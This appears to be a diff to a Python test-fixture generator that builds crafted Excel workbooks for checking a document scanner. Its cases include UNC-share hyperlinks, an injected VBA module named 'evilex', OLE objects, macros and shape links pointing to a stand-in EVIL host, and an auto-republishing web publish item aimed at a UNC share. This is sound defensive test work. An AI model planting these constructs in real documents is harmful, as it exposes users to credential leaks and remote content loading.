@@ -76,7 +76,7 @@ def linked(target: str) -> Callable[[Parts], None]:
 
 
 def located(parts: Parts) -> None:
-    place = f"<hyperlinks><hyperlink ref=\"C6\" location=\"'[{UNC}]S'!A1\"/></hyperlinks>"
+    place = f'<hyperlinks><hyperlink ref="C6" location="\'[{UNC}]S\'!A1"/></hyperlinks>'
     put(parts, SHEET, b"<pageMargins", place)
 
 
@@ -87,7 +87,7 @@ def foreign_macros(parts: Parts) -> None:
 def more_macros(parts: Parts) -> None:
     """Ours, with a module more: Excel keeps PROJECT as plain text, here behind the same name."""
     vba = parts["xl/vbaProject.bin"]
-    changed = vba.replace(b'Name="VBAProject"', b"Module=evilex\r\nX")
+    changed = vba.replace(b'Name="VBAProject"', b"Module=evilex\r\nX=")
     assert len(changed) == len(vba) and changed != vba
     parts["xl/vbaProject.bin"] = changed
 
@@ -217,7 +217,7 @@ def embedding(parts: Parts) -> None:
     relate(parts, SHEET, "rIdO", "oleObject", "../embeddings/oleObject1.bin")
     put(
         parts, SHEET, b"<tableParts",
-        f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="Package" shapeId="1025" r:id="rIdO" link="{EVIL}"/></oleObjects>',
+        f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="Package" shapeId="1025" r:id="rIdO" link="{EVIL}"/></oleObjects>',  # noqa: E501
     )  # fmt: skip
 
 
@@ -256,17 +256,14 @@ def link_base(parts: Parts) -> None:
 def web_publishing(parts: Parts) -> None:
     main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
     item = f'<webPublishItem id="1" divId="d" sourceType="sheet" sourceRef="A1" destinationFile="{UNC}" autoRepublish="1"/>'  # noqa: E501
-    sheet = f'<chartsheet xmlns="{main}"><sheetViews><sheetView workbookViewId="0"/></sheetViews><webPublishItems count="1">{item}</webPublishItems></chartsheet>'  # noqa: E501
+    sheet = f'<chartsheet xmlns="{main}"><sheetViews><sheetView workbookViewId="0"/></sheetViews><drawing r:id="rId1" xmlns:r="{OFFICE}"/><webPublishItems count="1">{item}</webPublishItems></chartsheet>'  # noqa: E501
     add(
         parts, "xl/chartsheets/sheet1.xml", sheet.encode(),
         "application/vnd.openxmlformats-officedocument.spreadsheetml.chartsheet+xml",
     )  # fmt: skip
-    add(parts, "xl/chartsheets/_rels/sheet1.xml.rels", parts[rels_of(SHEET)][:0] + EMPTY_RELS)
+    relate(parts, "xl/chartsheets/sheet1.xml", "rId1", "drawing", "../drawings/drawing1.xml")
     relate(parts, BOOK, "rIdCs", "chartsheet", "chartsheets/sheet1.xml")
     put(parts, BOOK, b"</sheets>", '<sheet name="Chart9" sheetId="98" r:id="rIdCs"/>')
-
-
-EMPTY_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
 
 
 def shape(inner: str = "", about: str = 'macro=""') -> Callable[[Parts], None]:
@@ -382,9 +379,7 @@ CONTENTS: dict[str, Content] = {
     "web publishing": Content(web_publishing, "เผยแพร่"),
     "base of links": Content(link_base, ""),
     "shape with macro": Content(shape(about=f'macro="{EVIL}!Run"'), "แมโครที่ผูก"),
-    "shape with text from elsewhere": Content(
-        shape(about=f"macro=\"\" textlink=\"'[{EVIL}]S'!A1\""), "รูปวาด"
-    ),
+    "shape with text from elsewhere": Content(shape(about=f'macro="" textlink="\'[{EVIL}]S\'!A1"'), "รูปวาด"),
     "shape with link to a share": Content(shape_link(f"file:///{UNC}"), "ลิงก์ในรูปวาด"),
     "shape with action": Content(shape_link("https://ok.example", action=EVIL), "ลิงก์ในรูปวาด"),
     "shape with link to a page": Content(shape_link(f"https://{EVIL}/"), ""),
